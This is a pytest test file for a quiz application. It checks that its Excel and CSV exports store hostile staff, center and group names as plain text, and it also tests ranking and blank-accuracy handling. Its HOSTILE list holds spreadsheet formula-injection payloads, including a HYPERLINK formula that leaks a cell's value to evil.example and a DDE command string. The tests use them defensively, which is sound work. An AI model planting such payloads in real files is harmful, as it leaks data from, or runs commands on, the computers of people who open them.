"""Exports write names, centers and groups as text: a hostile name never becomes a formula."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from quizengine.extensions import db as _db
from quizengine.models import Contest, Staff
from quizengine.services import audit, papers, practice
from quizengine.sheets import append_row, csv_field
from tests.conftest import login
from tests.views.test_learn import seed_paper

HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&B3,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
)


def hostile_roster(app, staff_no: str, name: str, center: str, group: str):
    """Give a staff member, their center and their group hostile names."""
    with app.app_context():
        staff = _db.session.scalar(select(Staff).where(Staff.staff_no == staff_no))
        staff.name, staff.center.name, staff.center.group.name = name, center, group
        _db.session.commit()


def cells(book):
    """Every non-empty cell of a workbook."""
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_text(book, *texts: str) -> None:
    found = cells(book)
    assert [c.coordinate for c in found if c.data_type == "f"] == []
    for text in texts:
        # openpyxl's stdlib XML reader gives a carriage return back as a line feed; with lxml (python-docx
        # brings it) it stays a carriage return
        matching = [c for c in found if c.value in (text, text.replace("\r", "\n"))]
        assert matching, f"{text!r} is not in the workbook"
        assert all(c.data_type == "s" and c.quotePrefix for c in matching)


@pytest.mark.parametrize("names", [HOSTILE[:3], HOSTILE[3:]], ids=["eq-plus-minus", "at-tab-cr"])
def test_results_xlsx_keeps_hostile_names_centers_and_groups_as_text(app, client, accounts, tmp_path, names):
    paper = seed_paper(app, tmp_path, publish=True)
    hostile_roster(app, "PTC0101", *names)
    with app.app_context():
        contest = _db.session.get(Contest, paper)
        staff = _db.session.scalar(select(Staff).where(Staff.staff_no == "PTC0101"))
        papers.start(contest, staff, datetime.now(UTC))
        papers.submit(contest, staff, datetime.now(UTC))
    login(client, "org1")
    export = client.get(f"/admin/contests/{paper}/results.xlsx")
    assert export.status_code == 200
    book = load_workbook(io.BytesIO(export.data))
    assert_text(book, *names)
    people = list(book.worksheets[0].iter_rows(min_row=3, values_only=True))
    assert people[0][1] == "PTC0101"
    assert [v.replace("\r", "\n") for v in people[0][2:4]] == [n.replace("\r", "\n") for n in names[:2]]


def test_the_learning_report_keeps_hostile_centers_and_groups_as_text(app, client, accounts, tmp_path):
    seed_paper(app, tmp_path, publish=False)
    hostile_roster(app, "PTC0101", "何娜刚", HOSTILE[0], HOSTILE[3])
    with app.app_context():
        staff = _db.session.scalar(select(Staff).where(Staff.staff_no == "PTC0101"))
        row = practice.practice_pool(staff, "contest-plan", now=datetime.now(UTC))[0]
        practice.answer(staff, row.id, row.answer[0] if row.kind != "judge" else True, "n1", datetime.now(UTC))
    login(client, "org1")
    export = client.get("/admin/learning/report.xlsx?group=community&first=2021-01-01&last=2030-01-01&share=0.01")
    assert export.status_code == 200
    book = load_workbook(io.BytesIO(export.data))
    assert_text(book, HOSTILE[0], HOSTILE[3])
    assert {r[1] for r in book["中心"].iter_rows(min_row=2, values_only=True)} >= {HOSTILE[0]}


def test_the_audit_csv_neutralises_fields_that_start_like_a_formula(app, client, accounts):
    with app.app_context():
        for text in HOSTILE:
            audit.record(None, "staff.edit", text, address="10.0.0.1", name=text)
        _db.session.commit()
    login(client, "admin1")
    rows = list(csv.reader(io.StringIO(client.get("/admin/audit.csv").data.decode("utf-8-sig"))))
    targets = [row[3] for row in rows if row[2] == "staff.edit"]
    assert targets == [f"'{text}" for text in HOSTILE]
    assert all(not field.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for field in row)


def test_append_row_writes_numbers_as_numbers_and_drops_characters_excel_refuses(tmp_path):
    book = Workbook()
    append_row(book.active, [1, 2.5, None, "=1+1", "bell\x07name", "普通文字"])
    book.save(tmp_path / "x.xlsx")
    row = next(load_workbook(tmp_path / "x.xlsx").active.iter_rows())
    assert [(c.value, c.data_type) for c in row] == [
        (1, "n"),
        (2.5, "n"),
        (None, "n"),
        ("=1+1", "s"),
        ("bellname", "s"),
        ("普通文字", "s"),
    ]
    assert [c.quotePrefix for c in row[3:]] == [True, False, False]
    assert csv_field("-1") == "'-1" and csv_field("a=b") == "a=b" and csv_field(None) == ""


def test_results_xlsx_ranks_no_center_nobody_took_part_from_and_leaves_accuracy_blank(app, client, accounts, tmp_path):
    paper = seed_paper(app, tmp_path, publish=True)
    login(client, "org1")
    # nobody has handed in: no center of the group is 第1名
    book = load_workbook(io.BytesIO(client.get(f"/admin/contests/{paper}/results.xlsx").data))
    centers = list(book.worksheets[1].iter_rows(min_row=3, values_only=True))
    assert len(centers) == 10
    assert [row[0] for row in centers] == [None] * 10
    # one person hands in without answering: their center is ranked, their accuracy is blank, not 0%
    with app.app_context():
        contest = _db.session.get(Contest, paper)
        staff = _db.session.scalar(select(Staff).where(Staff.staff_no == "PTC0101"))
        papers.start(contest, staff, datetime.now(UTC))
        papers.submit(contest, staff, datetime.now(UTC))
        center = staff.center.name
    book = load_workbook(io.BytesIO(client.get(f"/admin/contests/{paper}/results.xlsx").data))
    people = list(book.worksheets[0].iter_rows(min_row=3, values_only=True))
    assert people[0][0] == 1 and people[0][6] == 0  # rank 1, answered 0
    assert people[0][7] is None  # 正确率
    centers = list(book.worksheets[1].iter_rows(min_row=3, values_only=True))
    assert centers[0][:2] == (1, center)
    assert [row[0] for row in centers[1:]] == [None] * 9


def test_the_learning_report_leaves_accuracy_blank_for_a_center_without_answers(app, client, accounts, tmp_path):
    seed_paper(app, tmp_path, publish=False)
    login(client, "org1")
    export = client.get("/admin/learning/report.xlsx?group=community&first=2021-01-01&last=2030-01-01&share=0.5")
    assert export.status_code == 200
    sheet = load_workbook(io.BytesIO(export.data))["中心"]
    header = [cell.value for cell in sheet[1]]
    accuracy = header.index("正确率")
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert rows and all(row[accuracy] is None for row in rows)
